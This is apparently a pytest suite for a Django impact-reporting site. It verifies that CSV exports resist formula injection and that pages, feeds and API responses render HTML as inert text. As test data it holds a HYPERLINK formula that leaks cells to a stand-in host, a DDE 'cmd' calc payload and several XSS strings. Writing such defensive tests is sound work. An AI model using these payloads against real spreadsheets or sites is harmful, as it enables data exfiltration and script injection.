"""Whatever a reporter or an editor types, the downloads deliver it as inert text.

A spreadsheet runs a CSV cell that starts with = + - @ (or tab, carriage return, their fullwidth
forms, or any of them behind spaces) as a formula: `=HYPERLINK("https://evil.example/?"&A1)` in a
title would send the neighbouring cells away when a journalist opens the export. And a title such as
`<img src=x onerror=...>` must arrive as text on every page, feed and API response, each with its
own content type.
"""

import csv
import io
import json
import re
from decimal import Decimal
from xml.etree import ElementTree

import pytest
from django.urls import reverse
from django.utils import timezone

from impacts.exports import CSV_COLUMNS, CSV_NUMBER_COLUMNS, spreadsheet_cell
from tests.reports import make_report, make_site_project

pytestmark = pytest.mark.django_db

# What a spreadsheet takes for the start of a formula, alone or behind blanks it skips.
FORMULA_LEADERS = [
    "=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20",
    " =", "  +", "\u00a0-", "\u3000@", "\u200b=", "\ufeff+", " \t=",
]  # fmt: skip
PAYLOAD = 'HYPERLINK("https://evil.example/?leak="&A2,"Click for details")'

# Each CSV text column a person can fill, with the report fields that fill it.
TEXT_COLUMNS = {
    "public_title": lambda text: {"public_title": text},
    "public_text": lambda text: {"public_description": text},
    "project": lambda text: {"public_site_name": text},
    "settlement": lambda text: {"public_settlement": text},
    "reporter": lambda text: {"reporter_name": text, "attribution": "name"},
    "reporter#organisation": lambda text: {"organisation": text, "attribution": "organisation"},
}
ATOM = "{http://www.w3.org/2005/Atom}"


def published(**kw):
    return make_report(status="published", published_at=timezone.now(), **kw)


def body(response) -> str:
    if hasattr(response, "streaming_content"):
        return b"".join(response.streaming_content).decode()
    return response.content.decode()


def csv_export(client, **query) -> tuple[str, list[dict]]:
    response = client.get(reverse("impacts:report_export_csv"), query)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith("attachment;")
    text = body(response)
    return text, list(csv.DictReader(io.StringIO(text)))


def runs_as_formula(cell: str) -> bool:
    """What a spreadsheet does with a cell: blanks skipped, then a formula character starts a formula."""
    if cell[:1] in ("\t", "\r", "\n"):
        return True
    return re.sub(r"^[\s\u200b\ufeff]+", "", cell)[:1] in "=+-@\uff1d\uff0b\uff0d\uff20" and cell != ""


@pytest.fixture
def poisoned_reports():
    """One published report per (formula leader, text column), each poisoned in that column only."""
    reports = {}
    for leader in FORMULA_LEADERS:
        for column, fields in TEXT_COLUMNS.items():
            text = f"{leader}{PAYLOAD}"
            report = published(**{"public_title": "Dust", "public_site_name": "Quarry", **fields(text)})
            reports[report.reference] = (column.split("#")[0], text)
    return reports


def test_no_cell_of_the_csv_export_runs_as_a_formula(client, poisoned_reports):
    raw, rows = csv_export(client)
    assert len(rows) == len(poisoned_reports)
    for row in rows:
        column, text = poisoned_reports[row["reference"]]
        # The poisoned cell arrives as text: one apostrophe in front, nothing else changed...
        assert row[column] == "'" + text, (column, text)
        # ...and quoted, as OWASP asks, so no reader splits it at a comma or a quote.
        assert '"' + ("'" + text).replace('"', '""') + '"' in raw
        for name, cell in row.items():
            assert not runs_as_formula(cell) or name in CSV_NUMBER_COLUMNS, (name, cell)


def test_the_catalogue_names_in_the_csv_are_neutralised_too(client):
    project = make_site_project(name_en="=cmd|' /C calc'!A0")
    published(project=project, public_title="Dust")
    _, [row] = csv_export(client)
    assert row["project"] == "'=cmd|' /C calc'!A0"


def test_negative_coordinates_stay_numbers_and_text_that_looks_like_one_stays_text(client):
    published(
        public_title="-42", public_latitude=Decimal("-33.86000"), public_longitude=Decimal("-61.50000"), severity=2
    )
    raw, [row] = csv_export(client)
    assert (row["public_latitude"], row["public_longitude"], row["severity"]) == ("-33.86000", "-61.50000", "2")
    assert ",-33.86000,-61.50000," in raw  # unquoted: a spreadsheet reads a number
    assert row["public_title"] == "'-42"  # a title is text, even when it looks like a number


def test_ordinary_text_is_exported_unchanged_and_every_text_cell_is_quoted(client):
    published(
        public_title='Dust, again - "worse" @ night = bad',
        public_site_name="Quarry 2",
        public_latitude=None,
        public_longitude=None,
    )
    raw, [row] = csv_export(client)
    assert row["public_title"] == 'Dust, again - "worse" @ night = bad'
    header, line = raw.splitlines()[:2]
    assert header == ",".join(f'"{column}"' for column in CSV_COLUMNS)
    cell = r'(?:"(?:[^"]|"")*"|-?[0-9]+(?:\.[0-9]+)?)'  # quoted text, or a bare number
    assert re.fullmatch(f"{cell}(?:,{cell})*", line)
    assert ',3,"' in line  # the severity, a number


@pytest.mark.parametrize(
    ("value", "number", "cell"),
    [
        ("-61.5", True, Decimal("-61.5")),
        ("3", True, Decimal("3")),
        ("-1+2", True, "'-1+2"),
        ("-1e3", True, "'-1e3"),
        ("=1", True, "'=1"),
        ("-61.5", False, "'-61.5"),
        ("", True, ""),
        (None, False, ""),
        ("", False, ""),
        ("Dust", False, "Dust"),
        ("a=b", False, "a=b"),
    ],
)
def test_one_function_decides_every_cell(value, number, cell):
    assert spreadsheet_cell(value, number=number) == cell


@pytest.mark.parametrize("url", ["/api/reports/?format=csv", "/api/projects/?format=csv"])
def test_the_api_offers_no_spreadsheet_format(client, url):
    assert client.get(url).status_code == 404
    assert client.get(url.split("?")[0], HTTP_ACCEPT="text/csv").status_code == 406


# HTML in the text: inert everywhere ------------------------------------------------------------------

MARKUP = [
    "<script>alert('kzcn')</script>",
    "<img src=x onerror=alert('kzcn')>",
    '"><svg onload=alert(1)>',
    "<a href='javascript:alert(1)'>click</a>",
]


@pytest.fixture
def marked_up_report():
    project = make_site_project()
    text = " ".join(MARKUP)
    return published(
        project=project,
        region="kyzylorda",
        public_title=f"Dust {MARKUP[0]} {MARKUP[1]}",
        public_description=text,
        public_settlement=MARKUP[2],
        public_latitude=Decimal("43.1"),
        public_longitude=Decimal("68.5"),
        reporter_name=MARKUP[3],
        attribution="name",
    )


def html_pages(report) -> list[str]:
    return [
        report.get_absolute_url(),
        reverse("impacts:report_list"),
        reverse("impacts:report_list") + "?q=Dust",
        reverse("impacts:map"),
        report.project.get_absolute_url(),
        reverse("projects:home"),
        reverse("impacts:stats"),
    ]


def test_markup_in_a_report_is_shown_as_text_on_every_page(client, marked_up_report):
    for url in html_pages(marked_up_report):
        response = client.get(url)
        assert response.status_code == 200, url
        assert response["Content-Type"] == "text/html; charset=utf-8"
        text = body(response)
        for snippet in MARKUP:
            assert snippet not in text, (url, snippet)
    detail = body(client.get(marked_up_report.get_absolute_url()))
    assert "&lt;script&gt;alert(&#x27;kzcn&#x27;)&lt;/script&gt;" in detail
    assert "&lt;img src=x onerror=alert(&#x27;kzcn&#x27;)&gt;" in detail


def test_markup_in_a_report_is_plain_data_in_every_download(client, marked_up_report):
    title = marked_up_report.public_title
    downloads = {
        reverse("impacts:report_export_csv"): "text/csv; charset=utf-8",
        reverse("impacts:report_export_geojson"): "application/geo+json",
        reverse("impacts:feed"): "application/atom+xml; charset=utf-8",
        reverse("impacts:project_feed", args=[marked_up_report.project.slug]): "application/atom+xml; charset=utf-8",
        reverse("impacts:region_feed", args=["kyzylorda"]): "application/atom+xml; charset=utf-8",
        reverse("api:report-list"): "application/json",
        reverse("api:report-detail", args=[marked_up_report.reference]): "application/json",
    }
    for url, content_type in downloads.items():
        response = client.get(url)
        assert response.status_code == 200, url
        assert response["Content-Type"] == content_type, url
        assert response["X-Content-Type-Options"] == "nosniff", url  # no browser second-guesses the type
    _, [row] = csv_export(client)
    assert row["public_title"] == title
    [feature] = json.loads(body(client.get(reverse("impacts:report_export_geojson"))))["features"]
    assert feature["properties"]["title"] == title
    [report] = client.get(reverse("api:report-list")).json()["results"]
    assert (report["title"], report["settlement"], report["reporter"]) == (title, MARKUP[2], MARKUP[3])
    feed = ElementTree.fromstring(body(client.get(reverse("impacts:feed"))))  # noqa: S314 (our own feed)
    [entry] = feed.findall(f"{ATOM}entry")
    for name in ("title", "summary"):
        element = entry.find(f"{ATOM}{name}")
        assert element.get("type") == "text"
        assert list(element) == []  # no child elements: nothing a reader could render
        assert "<script" not in element.text and "<img" not in element.text
